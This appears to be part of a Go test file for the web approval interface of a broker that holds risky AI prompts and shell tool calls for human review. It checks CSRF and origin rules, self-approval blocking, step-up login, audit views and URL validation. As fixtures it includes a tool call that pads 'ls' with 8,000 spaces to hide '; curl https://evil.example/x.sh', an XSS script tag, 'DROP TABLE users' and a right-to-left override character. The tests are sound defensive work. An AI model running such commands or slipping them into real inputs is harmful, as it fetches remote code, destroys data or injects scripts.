		CreatedAt: time.Now(), PendingUntil: time.Now().Add(time.Hour),
		Approval: policy.Terms{Required: true, Approvers: policy.Subjects{Groups: []string{"security"}}, Count: 1},
		Prompt:   &broker.PromptHold{Rule: "destructive-sql", Model: "gpt-4o", Endpoint: "/v1/chat/completions", Excerpt: "please DROP TABLE users"}}
	e.svc.mu.Unlock()
	c := browser(t)
	e.login(t, c, "/ui/", "bob", "security")
	res, body := get(t, c, e.base+"/ui/requests/req_places")
	if res.StatusCode != 200 {
		t.Fatalf("%d", res.StatusCode)
	}
	for _, want := range []string{
		`<p class="wrap">prompt of 9000 bytes; rule &#34;destructive-sql&#34; matches 2 times</p>`,
		`<p class="found">Found in <span class="place mono wrap">messages[3] (tool)</span></p>` + "\n" +
			`<pre class="excerpt" tabindex="0" aria-label="Masked prompt around a match">…` + forged + "\nDROP TABLE a…</pre>",
		`<span class="place mono wrap">&lt;script&gt;alert(1)&lt;/script&gt;`, `\n[approved]WWW`, `; <span class="place mono wrap">messages[6] (user)</span></p>`,
	} {
		if !strings.Contains(body, want) {
			t.Errorf("the page lacks %q:\n%s", want, body[max(0, strings.Index(body, "<h3>Prompt")):][:min(2000, len(body)-max(0, strings.Index(body, "<h3>Prompt")))])
		}
	}
	for _, bad := range []string{"<script>alert", "\u202e", strings.Repeat("W", maxShown), "[found in messages[3] (tool)]"} {
		if strings.Contains(body, bad) {
			t.Errorf("the page shows %.40q", bad)
		}
	}
	if _, body := get(t, c, e.base+"/ui/requests/req_text"); !strings.Contains(body, `aria-label="Masked prompt excerpt">please DROP TABLE users</pre>`) || strings.Contains(body, "Found in") {
		t.Error("a hold without places does not show its excerpt as text")
	}
}

// A held tool call's page shows all of its arguments (the proxy holds
// none past 8 KiB): an approval releases every byte of them.
func TestHeldToolCallPageShowsAllArguments(t *testing.T) {
	e := newEnv(t)
	args := `{"command":"ls -la /tmp` + strings.Repeat(" ", 8000) + `; curl https://evil.example/x.sh"}`
	e.svc.mu.Lock()
	e.svc.reqs["req_tool"] = &broker.Request{ID: "req_tool", Kind: broker.KindPrompt, State: broker.StatePending, Requester: broker.Identity{Subject: "alice", Issuer: "dev"},
		CreatedAt: time.Now(), PendingUntil: time.Now().Add(time.Hour),
		Approval: policy.Terms{Required: true, Approvers: policy.Subjects{Groups: []string{"security"}}, Count: 1},
		Prompt: &broker.PromptHold{Rule: "any-shell", Model: "gpt-4o", Endpoint: "/v1/chat/completions", Tool: "shell", Arguments: args,
			Excerpt: `tool "shell" arguments: ` + args}}
	e.svc.mu.Unlock()
	c := browser(t)
	e.login(t, c, "/ui/", "bob", "security")
	res, body := get(t, c, e.base+"/ui/requests/req_tool")
	if res.StatusCode != 200 {
		t.Fatalf("%d", res.StatusCode)
	}
	if !strings.Contains(body, "; curl https://evil.example/x.sh&#34;}</pre>") || !strings.Contains(body, fmt.Sprintf("shown whole: %d bytes", len(args))) {
		t.Fatalf("the page does not show the arguments' end and size: …%s", body[max(0, strings.Index(body, "Tool call")):][:200])
	}
}

func TestPostsNeedSameOriginAndCSRF(t *testing.T) {
	e := newEnv(t)
	c := browser(t)
	e.login(t, c, "/ui/", "bob", "security")
	_, page := get(t, c, e.base+"/ui/requests/req_access")
	tok := csrfIn(t, page)
	decide := e.base + "/ui/requests/req_access/decide"
	good := url.Values{"csrf": {tok}, "decision": {"approve"}}
	for name, hdr := range map[string]map[string]string{
		"cross-site":            {"Origin": "https://evil.example", "Sec-Fetch-Site": "cross-site"},
		"same-site sibling":     {"Origin": "http://127.0.0.1:1", "Sec-Fetch-Site": "same-site"},
		"foreign Origin only":   {"Origin": "https://evil.example"},
		"no Origin, no fetch":   {},
		"null Origin, no fetch": {"Origin": "null"},
	} {
		if res, _ := post(t, c, decide, good, hdr); res.StatusCode != 403 {
			t.Errorf("%s: %d, want 403", name, res.StatusCode)
		}
	}
	same := map[string]string{"Origin": e.base, "Sec-Fetch-Site": "same-origin"}
	if res, _ := post(t, c, decide, url.Values{"decision": {"approve"}}, same); res.StatusCode != 403 {
		t.Errorf("no csrf: %d", res.StatusCode)
	}
	if res, _ := post(t, c, decide, url.Values{"decision": {"approve"}, "csrf": {tok + "x"}}, same); res.StatusCode != 403 {
		t.Errorf("wrong csrf: %d", res.StatusCode)
	}
	// Another session's token does not work here.
	c2 := browser(t)
	e.login(t, c2, "/ui/", "carol", "security")
	if res, _ := post(t, c2, decide, good, same); res.StatusCode != 403 {
		t.Errorf("another session's csrf: %d", res.StatusCode)
	}
	big := url.Values{"csrf": {tok}, "decision": {"approve"}, "reason": {strings.Repeat("x", MaxFormBody)}}
	if res, _ := post(t, c, decide, big, same); res.StatusCode != http.StatusRequestEntityTooLarge {
		t.Errorf("oversized form: %d", res.StatusCode)
	}
	if len(e.svc.reviews) != 0 {
		t.Fatalf("a refused post reached the broker: %v", e.svc.reviews)
	}
	// Origin: null with Sec-Fetch-Site: same-origin is a form post from our
	// own page under Referrer-Policy: no-referrer.
	res, _ := post(t, c, decide, url.Values{"csrf": {tok}, "decision": {"approve"}, "narrow": {"1"}, "scope": {"model:gpt-4o"}}, map[string]string{"Origin": "null", "Sec-Fetch-Site": "same-origin"})
	if res.StatusCode != http.StatusSeeOther || res.Header.Get("Location") != "/ui/requests/req_access?done=approved" {
		t.Fatalf("good post: %d %s", res.StatusCode, res.Header.Get("Location"))
	}
	if len(e.svc.reviews) != 1 || e.svc.reviews[0] != "bob req_access approve model:gpt-4o" {
		t.Fatalf("reviews %v", e.svc.reviews)
	}
	// GETs with a body, and other methods, are refused.
	req, _ := http.NewRequest("PUT", decide, nil)
	if res, _ := c.Do(req); res.StatusCode != http.StatusMethodNotAllowed {
		t.Errorf("PUT: %d", res.StatusCode)
	}
}

func TestRequesterAndNonApproverSeeNoForm(t *testing.T) {
	e := newEnv(t)
	c := browser(t)
	e.login(t, c, "/ui/", "alice", "security")
	_, body := get(t, c, e.base+"/ui/requests/req_access")
	if strings.Contains(body, `id="approve"`) || !strings.Contains(body, "you made this request") {
		t.Fatal("the requester gets a decision form")
	}
	if _, q := get(t, c, e.base+"/ui/"); strings.Contains(q, "req_access") {
		t.Fatal("the requester's own request is in her queue")
	}
	res, _ := post(t, c, e.base+"/ui/requests/req_access/decide", url.Values{"csrf": {csrfIn(t, body)}, "decision": {"approve"}}, map[string]string{"Origin": e.base, "Sec-Fetch-Site": "same-origin"})
	if res.StatusCode != 403 || len(e.svc.reviews) != 0 {
		t.Fatalf("self-approval: %d %v", res.StatusCode, e.svc.reviews)
	}
}

func TestStaleLoginStepsUp(t *testing.T) {
	e := newEnv(t)
	c := browser(t)
	e.login(t, c, "/ui/", "bob", "security")
	_, page := get(t, c, e.base+"/ui/requests/req_access")
	e.svc.stale = true
	_, page2 := get(t, c, e.base+"/ui/requests/req_access")
	if !strings.Contains(page2, "needs a recent login") {
		t.Fatal("a stale login is not told it will log in again")
	}
	res, _ := post(t, c, e.base+"/ui/requests/req_access/decide", url.Values{"csrf": {csrfIn(t, page)}, "decision": {"approve"}}, map[string]string{"Origin": e.base, "Sec-Fetch-Site": "same-origin"})
	if res.StatusCode != http.StatusSeeOther || res.Header.Get("Location") != "/ui/login?reauth=1&next=%2Fui%2Frequests%2Freq_access" {
		t.Fatalf("stale decide: %d %s", res.StatusCode, res.Header.Get("Location"))
	}
	res, _ = get(t, c, e.base+res.Header.Get("Location"))
	authz, _ := url.Parse(res.Header.Get("Location"))
	if q := authz.Query(); q.Get("prompt") != "login" || q.Get("max_age") != "600" || q.Get("code_challenge_method") != "S256" || q.Get("nonce") == "" {
		t.Fatalf("step-up authorization request: %s", authz)
	}
	res, _ = get(t, c, e.base+"/ui/audit")
	if res.StatusCode != http.StatusSeeOther || !strings.HasPrefix(res.Header.Get("Location"), "/ui/login?reauth=1") {
		t.Fatalf("stale audit view: %d %s", res.StatusCode, res.Header.Get("Location"))
	}
}

func TestEventsStreamNeedsSession(t *testing.T) {
	e := newEnv(t)
	c := browser(t)
	if res, _ := get(t, c, e.base+"/ui/events"); res.StatusCode != 401 {
		t.Fatalf("events without a session: %d", res.StatusCode)
	}
	e.login(t, c, "/ui/", "bob", "security")
	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
	defer cancel()
	req, _ := http.NewRequestWithContext(ctx, "GET", e.base+"/ui/events", nil)
	res, err := c.Do(req)
	if err != nil || res.StatusCode != 200 {
		t.Fatalf("events: %v %v", err, res)
	}
	defer res.Body.Close()
	buf := make([]byte, 4096)
	n, _ := res.Body.Read(buf)                               // retry: line
	e.audit.Append(ctx, &audit.Event{Type: audit.TypeLogin}) // not a queue event
	e.audit.Append(ctx, &audit.Event{Type: audit.TypeRequestCreated, Request: "req_access", Reasons: []string{"secret"}})
	var got strings.Builder
	got.Write(buf[:n])
	for !strings.Contains(got.String(), "event: queue") {
		n, err := res.Body.Read(buf)
		if err != nil {
			t.Fatalf("stream ended: %v (%q)", err, got.String())
		}
		got.Write(buf[:n])
	}
	if s := got.String(); strings.Contains(s, "req_access") || strings.Contains(s, "secret") || strings.Count(s, "event: queue") != 1 {
		t.Fatalf("stream carried %q", s)
	}
}

func TestValidatePublicURL(t *testing.T) {
	for _, ok := range []string{"https://pam.example.com", "https://pam.example.com/", "https://pam.example.com:8443", "http://127.0.0.1:8700", "http://localhost:8700", "http://[::1]:8700"} {
		if err := ValidatePublicURL(ok); err != nil {
			t.Errorf("%q: %v", ok, err)
		}
	}
	for _, bad := range []string{"", "pam.example.com", "http://pam.example.com", "https://pam.example.com/pam", "https://pam.example.com/?x=1", "https://pam.example.com/#f",
		"https://user:pw@pam.example.com", "ftp://pam.example.com", "https://", " https://pam.example.com", "https://pam.example.com\\@evil", "https://pam.example.com:99999", "http://10.0.0.1"} {
		if err := ValidatePublicURL(bad); err == nil {
			t.Errorf("%q accepted", bad)
		}
	}
}

func TestStreamsAreBounded(t *testing.T) {
	var c streamCount
	for range maxStreamsPerSession {
		if !c.acquire("a", "alice") {
			t.Fatal("refused below the per-session bound")
		}
	}
	if c.acquire("a", "alice") {
		t.Fatal("a session opened more streams than the bound")
	}
	if !c.acquire("b", "alice") {
		t.Fatal("another session was refused")
	}
	c.release("a", "alice")
	if !c.acquire("a", "alice") {
		t.Fatal("a released stream was not given back")
	}
	// One person's sessions together stop at the per-person bound; others
	// are not affected, and a released stream is given back.
	n := maxStreamsPerSession + 1 // a is full, b holds one
	for s := 0; n < maxStreamsPerPerson; s++ {
		if !c.acquire(fmt.Sprint("s", s/maxStreamsPerSession), "alice") {
			t.Fatalf("refused at %d, below the per-person bound", n)
		}
		n++
	}
	if c.acquire("fresh", "alice") {
		t.Fatal("a new session of the same person went past the per-person bound")
	}
	if !c.acquire("fresh", "bob") {
		t.Fatal("another person was refused")
	}
	c.release("a", "alice")
	if !c.acquire("fresh", "alice") {
		t.Fatal("a released stream was not given back to its person")
	}
}

func TestAuditViewAndTimeline(t *testing.T) {
	e := newEnv(t)
	ctx := context.Background()
	e.audit.Append(ctx, &audit.Event{Type: audit.TypeRequestCreated, Actor: &audit.Actor{Subject: "alice", Display: hostileText}, Request: "req_access", Reasons: []string{hostileText}})
	e.audit.Append(ctx, &audit.Event{Type: audit.TypeRequestApproved, Actor: &audit.Actor{Subject: "bob"}, Request: "req_access", Grant: "req_access", Decision: "approved"})
	e.audit.Append(ctx, &audit.Event{Type: audit.TypePromptHeld, Actor: &audit.Actor{Subject: "alice"}, Review: "req_held", Prompt: "DROP TABLE " + hostileText})
	c := browser(t)
	e.login(t, c, "/ui/", "bob", "security")

	res, body := get(t, c, e.base+"/ui/audit?type=request.*&actor=bob")
	row := func(typ string) string { return `<td class="mono">` + typ + `</td>` }
	if res.StatusCode != 200 || !strings.Contains(body, row("request.approved")) || strings.Contains(body, row("request.created")) || strings.Contains(body, row("prompt.held")) {
		t.Fatalf("filtered audit view: %d\n%s", res.StatusCode, body)
	}
	if res, body := get(t, c, e.base+"/ui/audit?since=yesterday"); res.StatusCode != 400 || !strings.Contains(body, "since must be") {
		t.Fatalf("bad since: %d", res.StatusCode)
	}
	res, body = get(t, c, e.base+"/ui/audit/grants/req_access")
	if res.StatusCode != 200 || !strings.Contains(body, "request.created") || !strings.Contains(body, "request.approved") || strings.Contains(body, "prompt.held") ||
		strings.Contains(body, "<script>alert") || strings.Contains(body, "\u202e") {
		t.Fatalf("timeline: %d\n%s", res.StatusCode, body)
	}
	if _, body := get(t, c, e.base+"/ui/audit/grants/req_held"); !strings.Contains(body, "DROP TABLE") || strings.Contains(body, "<script>alert") {
		t.Fatal("a held call's timeline")
	}
	// Reading the trail in the page is itself audited.
	var reads int
	e.audit.Range(ctx, 0, func(ev audit.Event) bool {
		if ev.Type == audit.TypeAuditRead && ev.Actor.Subject == "bob" && ev.Details["via"] == "web" {
			reads++
		}
		return true
	})
	if reads < 3 {
		t.Fatalf("%d audit.read events, want one per view", reads)
	}
	// Without audit:read the broker's refusal is shown, and nothing is read.
	e.svc.auditErr = &broker.Error{Code: broker.CodeForbidden, Message: "reading the audit trail needs audit:read"}
	if res, body := get(t, c, e.base+"/ui/audit"); res.StatusCode != 403 || !strings.Contains(body, "needs audit:read") {
		t.Fatalf("no audit:read: %d", res.StatusCode)
	}
}

func TestMinePage(t *testing.T) {
	e := newEnv(t)
	c := browser(t)
	e.login(t, c, "/ui/", "alice", "ml")
	res, body := get(t, c, e.base+"/ui/mine")
	if res.StatusCode != 200 || !strings.Contains(body, "req_access") || strings.Contains(body, "req_held") {
		t.Fatalf("mine: %d\n%s", res.StatusCode, body)
	}
	if res, _ := get(t, c, e.base+"/ui/requests/req_nope"); res.StatusCode != 404 {
		t.Fatalf("unknown request: %d", res.StatusCode)
	}
}

// TestLoginWithARedeemedIDTokenOpensNothing: a person's ID token opens
// one session, CLI or web; one the broker has seen before is refused.
func TestLoginWithARedeemedIDTokenOpensNothing(t *testing.T) {
	e := newEnv(t)
	e.svc.refuse = true
	c := browser(t)
	res, body := e.login(t, c, "/ui/", "bob", "security")
	if res.StatusCode != http.StatusUnauthorized || !strings.Contains(body, "This login was already used") {
		t.Fatalf("a redeemed token: %d %s", res.StatusCode, body)
	}
	if len(e.svc.sess) != 0 {
		t.Fatalf("a session opened: %+v", e.svc.sess)
	}
	// A store that cannot record the login is the broker's failure, not
	// a replay.
	e.svc.refuse, e.svc.storeErr = false, errors.New("disk full")
	res, body = e.login(t, browser(t), "/ui/", "bob", "security")
	if res.StatusCode != http.StatusInternalServerError || !strings.Contains(body, "The login could not be recorded") || len(e.svc.sess) != 0 {
		t.Fatalf("a failing store: %d %s", res.StatusCode, body)
	}
	for _, ck := range res.Cookies() {
		if ck.Name == "pamctl-ui" && ck.Value != "" {
			t.Fatalf("a session cookie was set: %+v", ck)
		}
	}
}
